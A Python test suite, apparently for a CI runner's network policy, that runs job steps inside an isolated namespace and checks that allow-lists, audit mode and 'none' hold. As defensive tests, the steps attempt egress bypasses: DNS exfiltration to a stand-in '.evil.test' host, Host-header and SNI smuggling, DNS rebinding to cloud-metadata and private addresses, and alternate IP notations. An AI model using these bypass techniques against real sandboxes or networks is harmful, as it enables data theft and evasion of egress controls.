"""What a job's network policy lets through. "Outside" are addresses that each test gives the loopback of a network
namespace of its own, in which the whole runner runs: no packet leaves the machine."""

import ctypes
import fcntl
import http.server
import os
import socket
import struct
import subprocess
import sys
import threading
import time
import unittest

from attack_harness import AttackTest, PIPELINE

OUTSIDE = "203.0.113.7"
INNER = "10.11.12.13"
HOSTS = f"""127.0.0.1 localhost
{OUTSIDE} allowed.test other.test sub.wild.test
{INNER} rebound.test
127.0.0.1 own.test
169.254.169.254 metadata.test
"""
CLONE_NEWNS, CLONE_NEWNET, MS_BIND, MS_REC, MS_PRIVATE = 0x20000, 0x40000000, 0x1000, 0x4000, 0x40000
LIBC = ctypes.CDLL(None, use_errno=True)


def checked(result):
    """Of a call of the C library."""
    if result != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def bring_up_loopback(addresses):
    """lo with more addresses, in the network namespace of this process."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
        def ask(request, name, payload):
            fcntl.ioctl(control, request, struct.pack("16s24s", name.encode(), payload))
        ask(0x8914, "lo", struct.pack("H", 0x49))  # SIOCSIFFLAGS: up, running, loopback
        for number, address in enumerate(addresses):
            ask(0x8916, f"lo:{number}", struct.pack("HH4s8x", socket.AF_INET, 0, socket.inet_aton(address)))


class Quiet(http.server.BaseHTTPRequestHandler):
    """Answers with the host that it was asked for."""

    def do_GET(self):  # pylint: disable=invalid-name
        """What stands at every path."""
        body = f"answer for {self.headers.get('Host', '')}\n".encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):  # pylint: disable=arguments-differ
        """Nothing."""


def serve_and_run(hosts_file, arguments):
    """In a process of its own: the namespaces, the servers outside, the runner; its output and exit code are ours."""
    checked(LIBC.unshare(CLONE_NEWNS | CLONE_NEWNET))
    checked(LIBC.mount(None, b"/", None, MS_REC | MS_PRIVATE, None))
    checked(LIBC.mount(hosts_file.encode(), b"/etc/hosts", None, MS_BIND, None))
    bring_up_loopback((OUTSIDE, INNER, "169.254.169.254"))
    seen = []
    for address, port in ((OUTSIDE, 80), (OUTSIDE, 8080), (INNER, 80), ("127.0.0.1", 80), ("169.254.169.254", 80)):
        server = http.server.ThreadingHTTPServer((address, port), Quiet)
        threading.Thread(target=server.serve_forever, daemon=True).start()
    tls = socket.create_server((OUTSIDE, 443))

    def answer_tls():
        while True:
            connection, _ = tls.accept()
            seen.append(connection.recv(4096))
            connection.sendall(b"reached")
            connection.close()

    threading.Thread(target=answer_tls, daemon=True).start()
    talkative = socket.create_server((OUTSIDE, 25))

    def speak_first():
        while True:
            connection, _ = talkative.accept()
            connection.sendall(b"220 here\r\n")
            connection.close()

    threading.Thread(target=speak_first, daemon=True).start()
    return subprocess.run([PIPELINE, *arguments], stdin=subprocess.DEVNULL, check=False).returncode


FETCH = """python3 - <<'END'
import socket, urllib.request
def fetch(url, host=None):
    request = urllib.request.Request(url, headers={"Host": host} if host else {})
    try:
        print("fetched", url, host or "", urllib.request.urlopen(request, timeout=20).read().decode().strip())
    except Exception as error:
        print("failed", url, host or "", type(error).__name__)
def tls(server_name):
    hello = b"\\x03\\x03" + bytes(32) + b"\\x00" + b"\\x00\\x02\\x13\\x01" + b"\\x01\\x00"
    name = server_name.encode()
    names = bytes([0]) + len(name).to_bytes(2, "big") + name
    extension = b"\\x00\\x00" + (len(names) + 2).to_bytes(2, "big") + len(names).to_bytes(2, "big") + names
    hello += len(extension).to_bytes(2, "big") + extension
    hello = b"\\x01" + len(hello).to_bytes(3, "big") + hello
    record = b"\\x16\\x03\\x01" + len(hello).to_bytes(2, "big") + hello
    try:
        s = socket.create_connection(("allowed.test", 443), 20)
        s.sendall(record[:40]); s.sendall(record[40:])
        print("tls", server_name, s.recv(100))
    except Exception as error:
        print("tls", server_name, type(error).__name__)
%s
END"""


class NetworkTest(AttackTest):
    """--network none, audit and allow, from inside a step."""

    def run_with(self, script, *arguments, code=0):
        """The output of a run whose only step is a Python script of fetches."""
        hosts = self.folder / "hosts"
        hosts.write_text(HOSTS)
        self.job("- name: the step that tries\n  run: |\n" + "\n".join("    " + line for line in (FETCH % script).splitlines()))
        done = subprocess.run(
            [sys.executable, __file__, "--inside", str(hosts), "run", ".github/workflows/test.yml", *arguments],
            cwd=self.repository, env=self.environment(PIPELINE_BINARY=os.path.abspath(PIPELINE)), timeout=100,
            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, check=False,
        )
        self.assertEqual(done.returncode, code, done.stdout)
        return done.stdout

    def test_what_is_listed_passes_and_all_else_is_refused_and_told(self):
        """By name and port; each refusal is one annotation that names the step."""
        output = self.run_with(
            'fetch("http://allowed.test/")\nfetch("http://allowed.test:8080/")\nfetch("http://other.test/")\n'
            'fetch("http://sub.wild.test/")\nfetch("http://203.0.113.7/")\nfetch("http://missing.allowed.test/")\n'
            'fetch("http://other.test/")',
            "--network", "allow=allowed.test:80,*.wild.test",
        )
        self.assertIn("fetched http://allowed.test/  answer for allowed.test", output)
        self.assertIn("fetched http://sub.wild.test/  answer for sub.wild.test", output)
        self.assertIn("failed http://allowed.test:8080/", output)
        self.assertIn("failed http://other.test/", output)
        self.assertIn("failed http://203.0.113.7/", output)
        told = [line for line in output.splitlines() if "was refused" in line and "the step that tries" in line]
        for place in ("allowed.test port 8080", "the name other.test", "203.0.113.7 port 80", "the name missing.allowed.test"):
            self.assertEqual(len([line for line in told if place in line]), 1, place + "\n" + output)
        self.assertIn("allowed.test:80: 1 connection", output)

    def test_a_connection_may_not_ask_for_another_host(self):
        """Neither in its HTTP request nor in its TLS greeting."""
        output = self.run_with(
            'fetch("http://allowed.test/", "other.test")\ntls("allowed.test")\ntls("other.test")',
            "--network", "allow=allowed.test",
        )
        self.assertIn("failed http://allowed.test/ other.test", output)
        self.assertIn("tls allowed.test b'reached'", output)
        self.assertRegex(output, r"tls other.test (ConnectionResetError|b'')")
        self.assertEqual(output.count("it asks for the host other.test"), 2, output)

    def test_a_name_that_leads_inside_is_refused_unless_the_address_is_listed(self):
        """DNS rebinding: private, loopback and link-local addresses."""
        script = 'fetch("http://rebound.test/")\nfetch("http://own.test/")\nfetch("http://metadata.test/")'
        output = self.run_with(script, "--network", "allow=rebound.test,own.test,metadata.test")
        self.assertNotIn("│ fetched", output)
        self.assertEqual(output.count("an inner address that is not listed itself"), 3, output)
        output = self.run_with(script, "--network", f"allow=rebound.test,{INNER}")
        self.assertIn("fetched http://rebound.test/", output)

    def test_other_ways_out_are_closed(self):
        """Name servers of one's choice, datagrams, IPv6, numbers in other notations, the gate itself."""
        output = self.run_with(
            'import os\n'
            'def attempt(what, call):\n'
            '    try: print("got", what, call())\n'
            '    except Exception as error: print("stopped", what, type(error).__name__)\n'
            'def ask(server, name):\n'
            '    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)\n'
            '    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))\n'
            '    s.sendto(b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0" + labels + b"\\0\\0\\x01\\0\\x01", (server, 53))\n'
            '    return s.recv(512)[3] & 15\n'
            'attempt("exfil", lambda: ask("8.8.8.8", "a" * 60 + ".evil.test"))\n'
            'attempt("tcp dns", lambda: socket.create_connection(("8.8.8.8", 53), 5).recv(1))\n'
            'attempt("tls dns", lambda: socket.create_connection(("8.8.8.8", 853), 5).recv(1))\n'
            'attempt("ipv6", lambda: socket.create_connection(("2001:db8::1", 443), 5).recv(1))\n'
            'attempt("mapped", lambda: socket.create_connection(("::ffff:203.0.113.7", 80), 5).recv(1))\n'
            'attempt("decimal", lambda: socket.create_connection(("3405803783", 80), 5).recv(1))\n'
            'attempt("ssh", lambda: socket.create_connection(("allowed.test", 22), 5).recv(1))\n'
            'attempt("datagram", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("203.0.113.7", 4433)))\n'
            'attempt("metadata", lambda: socket.create_connection(("169.254.169.254", 80), 5).recv(1))\n',
            "--network", "allow=allowed.test",
        )
        self.assertIn("got exfil 5", output)  # REFUSED
        for what in ("tcp dns", "tls dns", "ipv6", "mapped", "decimal", "ssh", "metadata"):
            self.assertRegex(output, rf"(stopped {what} |got {what} b'')", output)
        self.assertIn(".evil.test was refused", output)
        for place in ("8.8.8.8 port 53", "8.8.8.8 port 853", "203.0.113.7 port 80", "allowed.test port 22", "169.254.169.254 port 80"):
            self.assertIn(f"{place} was refused", output)
        self.assertIn("a UDP datagram was refused", output)

    def test_audit_lets_pass_and_reports(self):
        """Name, port, bytes and step of all that went out."""
        output = self.run_with('fetch("http://other.test:8080/")\nfetch("http://203.0.113.7/")\nfetch("http://nowhere.test/")', "--network", "audit")
        self.assertIn("fetched http://other.test:8080/", output)
        self.assertIn("fetched http://203.0.113.7/", output)
        self.assertIn("failed http://nowhere.test/", output)
        self.assertRegex(output, r"other\.test:8080: 1 connection, \d+ B sent, \d+ B received, step the step that tries")
        self.assertRegex(output, r"203\.0\.113\.7:80: 1 connection")
        self.assertNotIn("was refused", output)

    def test_none_reaches_nothing(self):
        """Not even by name."""
        output = self.run_with('fetch("http://allowed.test/")\nfetch("http://203.0.113.7/")', "--network", "none")
        self.assertNotIn("│ fetched", output)

    def test_a_server_that_speaks_first_is_heard(self):
        """The gate holds back only what the step says."""
        output = self.run_with(
            'print("heard", socket.create_connection(("allowed.test", 25), 20).recv(100))', "--network", "allow=allowed.test:25"
        )
        self.assertIn("heard b'220 here", output)

    def test_the_policy_may_stand_in_the_repository(self):
        """.pipeline.yml; a flag comes before it; what cannot be read is refused with its place."""
        self.write(".pipeline.yml", "network:\n  allow:\n    - allowed.test:80\n")
        script = 'fetch("http://allowed.test/")\nfetch("http://other.test/")'
        output = self.run_with(script)
        self.assertIn("fetched http://allowed.test/", output)
        self.assertIn("failed http://other.test/", output)
        self.assertNotIn("│ fetched", self.run_with(script, "--network", "none"))
        self.write(".pipeline.yml", "network: everything\n")
        self.assertIn("network in .pipeline.yml:1", self.run_with(script, code=2))

    def test_id_tokens_can_be_had_behind_a_policy(self):
        """The runner's own service is behind a listener inside."""
        self.workflow(
            """
            on: push
            permissions:
              id-token: write
            jobs:
              a:
                runs-on: x
                steps:
                  - run: |
                      curl -sS -H "Authorization: Bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=x" | grep -c '"value"'
            """
        )
        for network in ("none", "allow=example.com", "audit"):
            started = time.monotonic()
            self.assertRegex(self.run_pipeline("run", "--network", network), r"│ 1\n")
            self.assertLess(time.monotonic() - started, 30)


if __name__ == "__main__":
    if sys.argv[1:2] == ["--inside"]:
        sys.exit(serve_and_run(sys.argv[2], sys.argv[3:]))
    unittest.main()
